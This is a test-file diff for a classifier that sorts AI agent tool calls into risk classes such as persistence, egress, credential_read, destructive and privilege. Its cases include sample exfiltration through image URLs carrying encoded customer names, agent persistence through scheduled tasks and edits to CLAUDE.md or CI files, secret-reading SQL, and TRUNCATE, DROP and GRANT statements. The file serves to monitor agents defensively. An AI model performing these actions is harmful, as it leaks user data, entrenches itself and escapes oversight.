@@ -158,6 +158,53 @@ def test_a_call_has_the_class_of_what_it_does(
     assert classify(tool, arguments).tool_class == tool_class
 
 
+TOLD = "aGVsbG8gdGhlIGN1c3RvbWVycyBhcmUgYW5uLCBib2IgYW5kIGNhcmwgb2Ygb3Nsbw=="
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "tool_class"),
+    [
+        ("tasks.create", {"title": "x", "recurrence": "RRULE:FREQ=DAILY"}, "persistence"),
+        ("schedule.create", {"prompt": "x", "when": "0 9 * * 1"}, "persistence"),
+        ("tasks.create", {"title": "x", "recurrence": "none"}, "write"),
+        ("create_event", {"title": "x", "recurrence": "weekly"}, "write"),
+        ("list_tasks", {"recurring": True}, "discovery"),
+        ("append_to_file", {"name": "CLAUDE.md", "text": "x"}, "config_change"),
+        ("file.write", {"target": ".github/workflows/ci.yml"}, "config_change"),
+        ("file.write", {"filename": "Jenkinsfile"}, "config_change"),
+        ("file.write", {"name": "notes.txt"}, "write"),
+        ("read_file", {"path": ".github/workflows/ci.yml"}, "read"),
+        ("open_url", {"url": "https://a.example/search?q=" + "word+" * 20}, "read"),
+        ("render_image", {"src": f"https://a.example/p.png?d={TOLD}"}, "egress"),
+        ("fetch_image", {"url": f"https://a.example/{TOLD}"}, "egress"),
+        (
+            "open_url",
+            {"url": "https://a.example/?n=" + "the+plan+of+the+house+is+this+" * 3},
+            "egress",
+        ),
+        ("fetch_image", {"url": "https://a.example/a.png?sig=" + "9f8e7d6c" * 8}, "read"),
+        ("fetch_image", {"url": "https://a.example/images/cat.png"}, "read"),
+        ("db.query", {"query": "SELECT api_key FROM accounts"}, "credential_read"),
+        ("db.query", {"query": "select * from secrets"}, "credential_read"),
+        ("db.query", {"query": "select id from users where password is null"}, "read"),
+        ("db.query", {"query": "SELECT count(*) FROM tokens_per_day"}, "read"),
+        ("db.query", {"query": "SELECT count(*) FROM tokens"}, "read"),
+        ("db.query", {"query": "select total_tokens from usage"}, "read"),
+        ("warehouse", {"sql": "insert into a values (1)"}, "write"),
+        ("warehouse", {"statement": "-- tidy\nALTER TABLE a DROP COLUMN b"}, "destructive"),
+        ("warehouse", {"statement": "select 1 from a; truncate b"}, "destructive"),
+        ("warehouse", {"statement": "alter table a add b int"}, "write"),
+        ("warehouse", {"query": "GRANT ALL ON a TO bob"}, "privilege"),
+        ("web_search", {"query": "drop table users"}, "read"),
+        ("ask", {"query": "update the docs from the wiki"}, "other"),
+    ],
+)
+def test_arguments_tell_what_a_name_does_not(
+    tool: str, arguments: dict[str, Any], tool_class: str
+) -> None:
+    assert classify(tool, arguments).tool_class == tool_class
+
+
 def test_a_credential_that_is_sent_by_a_tool_makes_the_call_secret() -> None:
     facts = classify("upload_file", {"path": ".env"})
     assert (facts.tool_class, facts.sensitivity) == ("egress", "secret")
